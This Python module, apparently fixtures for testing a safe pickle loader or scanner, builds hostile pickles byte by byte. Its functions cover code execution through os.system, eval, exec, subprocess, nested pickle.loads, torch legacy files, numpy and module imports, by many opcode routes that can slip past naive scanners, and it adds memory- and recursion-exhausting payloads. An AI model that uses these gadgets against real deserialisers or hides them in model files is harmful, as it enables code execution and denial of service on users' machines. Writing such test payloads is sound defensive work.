"""Hostile pickles, written opcode by opcode: those that run code where a real reader meets them, and greedy ones."""

import marshal
import pickle
import struct
from collections.abc import Callable, Mapping
from pathlib import Path

PROTOCOL_4 = b"\x80\x04"


def text(value: str) -> bytes:
    """Push a string."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def name(module: str, attribute: str) -> bytes:
    """Push what a module calls by a name, dots included."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """Call what `function` pushes with what `arguments` push."""
    return function + b"(" + b"".join(arguments) + b"t" + b"R"


def _shell(target: Path) -> bytes:
    return text(f"touch '{target}'")


def _expression(target: Path) -> str:
    return f"open({str(target)!r}, 'w').close()"


def _plain_routes(target: Path) -> dict[str, bytes]:
    """One attack by every opcode that makes something happen."""
    system, shell, line = name("os", "system"), _shell(target), f"touch '{target}'"
    hollow = name("types", "SimpleNamespace") + b")\x81"
    partial = name("functools", "partial") + b"(" + system + shell + b"t\x81"
    by_keywords = name("functools", "partial") + b"(" + system + b"t}" + text("command") + shell + b"s\x92"
    framed = call(system, shell) + b"."

    def with_attribute(attribute: str) -> bytes:
        return PROTOCOL_4 + hollow + b"}" + text(attribute) + system + b"sb"

    def extension(number: bytes, use: bytes) -> bytes:
        register = call(name("copyreg", "add_extension"), text("posix"), text("system"), number)
        return PROTOCOL_4 + register + b"0" + call(use, shell) + b"."

    return {
        "REDUCE, GLOBAL": b"cposix\nsystem\n(" + text(line) + b"tR.",
        "REDUCE, names of Python 2": b"\x80\x02c__builtin__\neval\n(" + text(_expression(target)) + b"tR.",
        "REDUCE, STACK_GLOBAL": PROTOCOL_4 + call(system, shell) + b".",
        "REDUCE, dotted name": PROTOCOL_4 + call(name("os", "path.genericpath.os.system"), shell) + b".",
        "INST": b"(" + text(line) + b"iposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\n" + text(line) + b"o.",
        "NEWOBJ, then called": PROTOCOL_4 + partial + b")R.",
        "NEWOBJ_EX, then called": PROTOCOL_4 + by_keywords + b")R.",
        "BUILD": with_attribute("__setstate__") + shell + b"b.",
        "APPEND": with_attribute("append") + shell + b"a.",
        "APPENDS": with_attribute("append") + b"(" + shell + b"e.",
        "ADDITEMS": with_attribute("add") + b"(" + shell + b"\x90.",
        "memo": PROTOCOL_4 + system + b"q\x070" + shell + b"p9\n0h\x07g9\n\x85Rr\x2c\x01\0\x000j\x2c\x01\0\0.",
        "DUP and POP_MARK": PROTOCOL_4 + b"(" + system + b"1" + system + b"2" + shell + b"\x85R.",
        "in a frame": PROTOCOL_4 + b"\x95" + struct.pack("<Q", len(framed)) + framed,
        "behind data": PROTOCOL_4 + b"}" + text("a") + b"]" + call(system, shell) + b"as.",
        "as a key": PROTOCOL_4 + b"}" + call(system, shell) + b"Ns.",
        "EXT1": extension(b"K\xf0", b"\x82\xf0"),
        "EXT2": extension(b"M\xf0\x01", b"\x83\xf0\x01"),
        "EXT4": extension(b"J\xf0\0\0\x01", b"\x84\xf0\0\0\x01"),
    }


def _gadgets(target: Path) -> dict[str, bytes]:
    """Attacks by functions that are installed everywhere, each called with harmless-looking arguments."""
    code, shell, system = _expression(target), _shell(target), name("os", "system")
    operating_system = call(name("builtins", "__import__"), text("os"))
    function = marshal.dumps(compile(code, "stranger", "exec"))
    inner = PROTOCOL_4 + call(system, shell) + b"."
    interpreter = call(name("code", "InteractiveInterpreter"))
    compiled = call(name("builtins", "compile"), text(code), text("x"), text("exec"))
    made = call(name("types", "FunctionType"), call(name("marshal", "loads"), _bytes(function)), b"}")
    bodies = {
        "eval": call(name("builtins", "eval"), text(code)),
        "exec": call(name("builtins", "exec"), text(code)),
        "open": call(name("io", "open"), text(str(target)), text("w")),
        "pathlib": call(name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), text(str(target)))),
        "getattr": call(call(name("builtins", "getattr"), operating_system, text("system")), shell),
        "attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), operating_system), shell),
        "marshal": call(made),
        "nested pickle": call(name("pickle", "loads"), _bytes(inner)),
        "nested pickle in C": call(name("_pickle", "loads"), _bytes(inner)),
        "torch storage": call(name("torch.storage", "_load_from_bytes"), _bytes(legacy_file(inner))),
        "numpy runstring": call(name("numpy.testing._private.utils", "runstring"), text(code), b"}"),
        "timeit": call(name("timeit", "timeit"), text(code), text("pass"), name("time", "perf_counter"), b"K\x01"),
        "cProfile": call(name("cProfile", "run"), text(code)),
        "interpreter": call(name("code", "InteractiveInterpreter.runcode"), interpreter, compiled),
        "subprocess": call(name("subprocess", "check_output"), b"](" + text("touch") + text(str(target)) + b"e"),
        "map": call(name("collections", "deque"), call(name("builtins", "map"), system, b"](" + shell + b"e")),
    }
    return {title: PROTOCOL_4 + body + b"." for title, body in bodies.items()}


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def legacy_file(state: bytes) -> bytes:
    """A file as torch wrote it before 1.6, around a pickle of one's own."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    return b"".join(pickle.dumps(part, 2) for part in head) + state + pickle.dumps([], 2)


def attacks(target: Path) -> dict[str, bytes]:
    """Pickles that make a file where a real reader follows them, by the way in which they do it.

    Args:
        target: The file; a test looks for it.
    """
    return _plain_routes(target) | _gadgets(target)


def importing(folder: Path) -> dict[str, bytes]:
    """Pickles that only name a module, which makes a file when it is imported.

    Args:
        folder: Gets the module; it has to be on Python's path for the attack to be real.
    """
    (folder / "stranger_module.py").write_text(f"open({str(folder / 'executed')!r}, 'w').close()\nclass Space: pass\n")
    return {
        "GLOBAL": b"cstranger_module\nSpace\n.",
        "STACK_GLOBAL": PROTOCOL_4 + name("stranger_module", "Space") + b".",
        "INST": b"(istranger_module\nSpace\n.",
        "import_module": PROTOCOL_4 + call(name("importlib", "import_module"), text("stranger_module")) + b".",
    }


def _laughs(depth: int) -> bytes:
    """Lists of nine references to one list of nine references, and so on."""
    levels = b"".join(b"0](" + (b"h" + bytes([level])) * 9 + b"e\x94" for level in range(depth))
    return PROTOCOL_4 + text("ha") + b"\x94" + levels + b"."


GREEDY: Mapping[str, Callable[[], bytes]] = {
    "names that grow by being called": lambda: b"cx\ny\n" + b"2)R" * 60_000 + b".",
    "a long tuple given to call after call": lambda: (
        b"(ca\nb\n" + b"N" * 90_000 + b"tq\x000ccopyreg\n__newobj__\nq\x010" + b"h\x01h\x00R" * 20_000 + b"."
    ),
    "a key of millions of digits": lambda: (
        b"\x8b" + struct.pack("<i", 8_000_000) + b"\x7f" * 8_000_000 + b"q\x000}" + b"h\x00Ns" * 40_000 + b"."
    ),
    "a key of a long tuple": lambda: b"(" + b"N" * 90_000 + b"tq\x000}" + b"h\x00Ns" * 30_000 + b".",
    "keys nested in pairs": lambda: b"}" + b")" + b"2\x86" * 60 + b"Ns.",
    "a billion laughs": lambda: _laughs(30),
    "many empty sets": lambda: b"\x80\x04(" + b"\x8f" * 190_000 + b"l.",
    "many empty dicts, more than are followed": lambda: b"(" + b"}" * 3_000_000 + b"l.",
    "tuples nested two hundred thousand deep": lambda: b")" + b"\x85" * 190_000 + b".",
    "marks nested deep": lambda: b"(" * 100_000 + b".",
    "a list within itself": lambda: b"]q\x00h\x00a.",
    "a decimal number of a million digits": lambda: b"I" + b"9" * 1_000_000 + b"\n.",
    "a long of a million digits": lambda: b"L" + b"9" * 1_000_000 + b"L\n.",
    "a hexadecimal number of a million digits": lambda: b"I0x" + b"f" * 1_000_000 + b"\n.",
    "a binary number of sixteen megabytes": lambda: b"\x8b" + struct.pack("<i", 1 << 24) + b"\x7f" * (1 << 24) + b".",
    "a negative length": lambda: b"\x8b" + struct.pack("<i", -5) + b".",
    "bytes of an exabyte": lambda: b"\x8e" + struct.pack("<Q", 1 << 60) + b".",
    "a bytearray of an exabyte": lambda: b"\x96" + struct.pack("<Q", 1 << 60) + b".",
    "a string of an exabyte": lambda: b"\x8d" + struct.pack("<Q", 1 << 60) + b".",
    "a frame of an exabyte": lambda: b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N.",
    "frames within frames": lambda: b"\x80\x04" + b"\x95" + struct.pack("<Q", 9) + b"\x95" * 9 + b"N.",
    "the last place of the memo": lambda: b"Nr\xff\xff\xff\xff.",
    "a place of the memo in a million digits": lambda: b"Np" + b"9" * 1_000_000 + b"\n.",
    "a name of ten megabytes": lambda: b"c" + b"a" * 10_000_000 + b"\nb\n.",
    "keywords that are none": lambda: b"\x80\x04" + name("a", "b") + b")N\x92.",
    "a persistent id": lambda: b"Pstranger\n.",
    "a binary persistent id": lambda: b"NQ.",
    "an outside buffer": lambda: b"\x80\x05\x97.",
    "a protocol of the future": lambda: b"\x80\xff.",
    "nothing": lambda: b"",
    "a stop alone": lambda: b".",
    "text that is not UTF-8": lambda: b"X\x04\0\0\0\xff\xfe\xfd\xfc.",
    "lone surrogates": lambda: b"V\\ud800\n.",
}  # fmt: skip
"""Pickles that ask for much out of little, or are none."""
